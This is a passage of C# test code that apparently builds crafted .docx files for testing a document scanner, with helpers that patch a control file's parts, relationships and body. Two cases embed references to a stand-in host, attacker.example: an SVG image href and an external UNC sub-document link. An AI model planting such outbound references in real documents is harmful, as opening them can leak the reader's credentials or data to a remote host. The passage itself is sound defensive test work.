        yield return new("docx: an SVG picture (it can point outside the file)", "svg.docx", Change(control,
            parts: [("word/media/image7.svg", Encoding.UTF8.GetBytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"file://attacker.example/s/p.png\"/></svg>"))],
            types: Override("/word/media/image7.svg", "image/svg+xml")), "picture of a kind");
        yield return new("docx: a sub-document", "subdoc.docx", Change(control, relationships: Relationship("rId94", "subDocument", "\\\\attacker.example\\s\\d.docx", external: true)), "links outside");
    }

    private static string Complex(params string[] instructionRuns) =>
        "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" +
        string.Concat(instructionRuns.Select(r => $"<w:r><w:instrText xml:space=\"preserve\">{System.Security.SecurityElement.Escape(r)}</w:instrText></w:r>")) +
        "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static string Override(string part, string type) => $"<Override PartName=\"{part}\" ContentType=\"{type}\"/>";

    private static string Relationship(string id, string type, string target, bool external = false) =>
        $"<Relationship Id=\"{id}\" Type=\"{Ns}{type}\" Target=\"{System.Security.SecurityElement.Escape(target)}\"{(external ? " TargetMode=\"External\"" : "")}/>";

    /// <summary>An OLE compound file's signature and a little more.</summary>
    private static byte[] Ole() => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0, 0, 0, 0, 0, 0, 0];

    /// <summary>An Office package (a ZIP) as a workbook is one.</summary>
    private static byte[] Workbook()
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var writer = new StreamWriter(zip.CreateEntry("xl/workbook.xml").Open());
            writer.Write("<workbook/>");
        }

        return buffer.ToArray();
    }

    /// <summary>
    /// The control with parts added and the content types, the main part's relationships, its body or its header
    /// extended, as a crafted file would be.
    /// </summary>
    public static byte[] Change(byte[] docx, (string Name, byte[] Bytes)[]? parts = null, string types = "", string relationships = "",
        string body = "", string header = "")
    {
        using var source = new ZipArchive(new MemoryStream(docx));
        using var buffer = new MemoryStream();
        using (var target = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var entry in source.Entries)
            {
                using var reader = new StreamReader(entry.Open());
                var text = reader.ReadToEnd();
                if (entry.FullName == "[Content_Types].xml")
                {
                    text = text.Replace("</Types>", types + "</Types>", StringComparison.Ordinal);
                }
                else if (entry.FullName == "word/_rels/document.xml.rels")
                {
                    text = text.Replace("</Relationships>", relationships + "</Relationships>", StringComparison.Ordinal);
                }
                else if (entry.FullName == "word/document.xml")
                {
                    text = text.Replace("<w:sectPr", body + "<w:sectPr", StringComparison.Ordinal);
                }
                else if (entry.FullName.StartsWith("word/header", StringComparison.Ordinal) && entry.FullName.EndsWith(".xml", StringComparison.Ordinal))
                {
                    text = text.Replace("</w:hdr>", header + "</w:hdr>", StringComparison.Ordinal);
                }

                using var copy = entry.Name.EndsWith(".png", StringComparison.Ordinal) || entry.Name.EndsWith(".jpeg", StringComparison.Ordinal) || entry.Name.EndsWith(".jpg", StringComparison.Ordinal)
                    ? null : new StreamWriter(target.CreateEntry(entry.FullName).Open(), new UTF8Encoding(false));
                if (copy is not null)
                {
                    copy.Write(text);
                }
                else
                {
                    using var raw = target.CreateEntry(entry.FullName).Open();
                    using var original = entry.Open();
                    original.CopyTo(raw);
                }
            }

            foreach (var (name, bytes) in parts ?? [])
            {
                using var stream = target.CreateEntry(name).Open();
                stream.Write(bytes);
            }
        }

        return buffer.ToArray();
    }
}
